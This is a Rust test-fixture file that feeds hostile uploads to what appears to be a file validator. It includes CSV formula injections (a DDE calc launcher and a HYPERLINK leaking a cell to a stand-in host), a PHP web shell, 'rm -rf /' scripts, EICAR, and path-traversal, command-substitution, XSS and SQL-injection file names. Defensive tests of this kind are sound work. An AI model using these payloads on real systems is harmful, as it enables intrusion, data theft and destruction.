//! Tables, programs, files of odd sizes, and odd names.

use image::ImageFormat;

use super::Hostile;
use super::make::*;

pub(super) fn tables() -> Vec<Hostile> {
    vec![
        // Formulas are text; the spreadsheet asks before it follows them.
        accepted("formula.csv", "csv", "=cmd|' /C calc'!A0,1\n"),
        accepted("link.csv", "csv", "=HYPERLINK(\"http://e.org/?\"&A1,\"x\")\n"),
        accepted("plus.csv", "csv", "+1+1,-2,@SUM(A1)\n"),
        accepted("quotes.csv", "csv", "\"a\"\"b\",\"<script>alert(1)</script>\"\n"),
        accepted("bidi.csv", "csv", "a,\u{202E}txt.exe\n"),
        accepted("wide.csv", "csv", wide("a,é\n", u16::to_le_bytes)),
        accepted("wide-the-other-way.csv", "csv", wide("a,日\n", u16::to_be_bytes)),
        accepted("ONE.CSV", "csv", "a"),
        accepted("one-line.csv", "csv", "a,".repeat(500_000)),
        refused("noughts.csv", b"a,b\0c\n"),
        refused("escape.csv", b"a,\x1B]0;x\x07\n"),
        refused("bell.csv", b"a\x07"),
        refused("latin.csv", b"caf\xE9,1\n"),
        refused("overlong.csv", b"a,\xC0\xAF\n"),
        refused("half.csv", b"\xFF\xFEa"),
        refused("lone-surrogate.csv", b"\xFF\xFE\x00\xD8"),
        refused("wide-page.csv", wide("<html><script>alert(1)</script>", u16::to_le_bytes)),
        refused(
            "wide-without-mark.csv",
            "a,b".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>(),
        ),
        refused("page-after-space.csv", b" \r\n\t<script>alert(1)</script>"),
        refused("xml.csv", b"<?xml version='1.0'?><a/>"),
        refused("php.csv", b"<?php system('id');"),
        refused("sylk.csv", b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n"),
        refused("rtf.csv", b"{\\rtf1{\\object\\objdata 0105}}"),
        refused("mail.csv", b"MIME-Version: 1.0\n\n<html>"),
        refused("shortcut.csv", b"[InternetShortcut]\nURL=file:///c:/a.exe\n"),
        refused("blank.csv", b" \r\n\t\n"),
        refused("text.txt", b"a,b\n1,2\n"),
        refused("table", b"a,b\n1,2\n"),
        refused("csv.html", b"a,b\n"),
    ]
}

pub(super) fn programs() -> Vec<Hostile> {
    let trial =
        joined(&[b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"]);
    let elf = joined(&[b"\x7FELF\x02\x01\x01", &[0; 57]]);
    let pe = joined(&[b"MZ\x90\0\x03", &[0; 59], b"PE\0\0"]);
    vec![
        refused("eicar.com", trial.clone()),
        refused("eicar.csv", trial),
        refused("a.exe", pe.clone()),
        refused("exe.png", pe.clone()),
        refused("exe.csv", pe),
        refused("elf", elf.clone()),
        refused("elf.jpg", elf),
        refused("mach-o.pdf", b"\xCF\xFA\xED\xFE\x07\0\0\x01"),
        refused("class.png", b"\xCA\xFE\xBA\xBE\0\0\0\x34"),
        refused("wasm.png", b"\0asm\x01\0\0\0"),
        refused("a.sh", b"#!/bin/sh\nrm -rf /\n"),
        refused("sh.csv", b"#!/bin/sh\nid\n"),
        refused("a.bat", b"@echo off\r\ndel *\r\n"),
        refused("bat.csv", b"@echo off,1\r\n"),
        refused("a.php", b"<?php system($_GET['c']);"),
        refused("a.jsp", b"<% Runtime.getRuntime().exec(\"id\"); %>"),
        refused("a.lnk", b"L\0\0\0\x01\x14\x02\0"),
        refused("a.rtf", b"{\\rtf1 hello}"),
        refused("a.js", b"alert(1)"),
        refused("a.swf", b"CWS\x0A\0\0\0\0"),
        refused("a.plist", b"bplist00"),
        refused("a.sqlite", b"SQLite format 3\0"),
        refused("a.ttf", b"\0\x01\0\0\0\x0C"),
    ]
}

pub(super) fn sizes() -> Vec<Hostile> {
    let large = vec![b'a'; 9_000_000];
    let mut files = vec![
        refused("empty", b""),
        refused("empty.png", b""),
        refused("empty.csv", b""),
        refused("one.png", b"\x89"),
        refused("one.jpg", b"\xFF"),
        refused("one.pdf", b"%"),
        refused("nought", b"\0"),
        refused("large.png", joined(&[&photo(ImageFormat::Png), &large])),
        refused("large.csv", large),
    ];
    for byte in ["P", "PK", "RIFF", "GIF8", "BM", "{", "\u{FEFF}"] {
        files.push(refused("short", byte));
    }
    files
}

/// Strange names for a picture that is none of that.
pub(super) fn names() -> Vec<Hostile> {
    let names = [
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd.png",
        "C:\\a.png",
        "\\\\host\\share\\a.png",
        "....//....//a.png",
        "%2e%2e%2fa.png",
        "..%c0%afa.png",
        "．．／a.png",
        "a．png",
        "a\u{2024}png",
        "file:///etc/passwd",
        "a.png\r\nSet-Cookie: a=b",
        "a\r\n\r\n<script>alert(1)</script>.png",
        "a\n.png",
        "a\0.png",
        "a.php\0.png",
        "\0",
        "\"; filename=\"a.exe",
        "a\".png",
        "a'.png",
        "a;b.png",
        "a.png; filename*=UTF-8''b.exe",
        "`id`.png",
        "$(id).png",
        "a|b.png",
        "a&b.png",
        "-rf.png",
        "--help",
        "~",
        "*",
        "?.png",
        "<script>alert(1)</script>.png",
        "<img src=x onerror=alert(1)>.png",
        "{{7*7}}.png",
        "${7*7}.png",
        "' OR 1=1 --.png",
        "%s%n%x.png",
        "a\u{202E}gnp.exe",
        "\u{202E}\u{2066}\u{200B}",
        "\u{FEFF}.png",
        "\u{200F}a.png",
        "a\u{AD}.png",
        "\u{E0041}.png",
        ".htaccess",
        ".",
        "..",
        "...",
        " ",
        "",
        ".png",
        "a.",
        "a .png",
        " a.png ",
        "a.png.",
        "web.config",
        "index.html",
        "a.svg",
        "a.php",
        "a.php.png",
        "a.png.php",
        "a.png;.php",
        "a.phtml",
        "a.shtml",
        "a.PNG",
        "a.jpeg",
        "CON.png",
        "con",
        "NUL",
        "aux.tar.png",
        "COM1.png",
        "LPT9.png",
        "com¹.png",
        "desktop.ini",
        "Thumbs.db",
        "a.png::$DATA",
        "a:b.png",
        "a\u{301}\u{301}\u{301}.png",
        "صورة.png",
        "写真.png",
        "🏳️‍🌈.png",
        "a\tb.png",
        "a\u{7F}.png",
        "a\u{85}b.png",
        "a\u{2028}b.png",
        "\u{1B}[2J.png",
    ];
    let long = [
        "a".repeat(300),
        format!("{}.png", "a".repeat(300)),
        format!("{}.png", "日".repeat(300)),
        format!("a.{}", "b".repeat(300)),
        "\u{202E}".repeat(300),
        format!("{}a.png", "\u{200B}a".repeat(150)),
        ".".repeat(300),
        "../".repeat(100),
        format!("a{}.png", "\u{301}".repeat(299)),
        "🏴".repeat(300),
    ];
    let names = names.into_iter().map(str::to_owned).chain(long).enumerate();
    // No two of the pictures are the same.
    let picture = |shade: usize| {
        let content = chunk("IDAT", &deflated(&[0, shade as u8], 1));
        png(header(1, 1, [8, 0, 0]), &[content])
    };
    names.map(|(number, name)| accepted(&name, "png", picture(number))).collect()
}
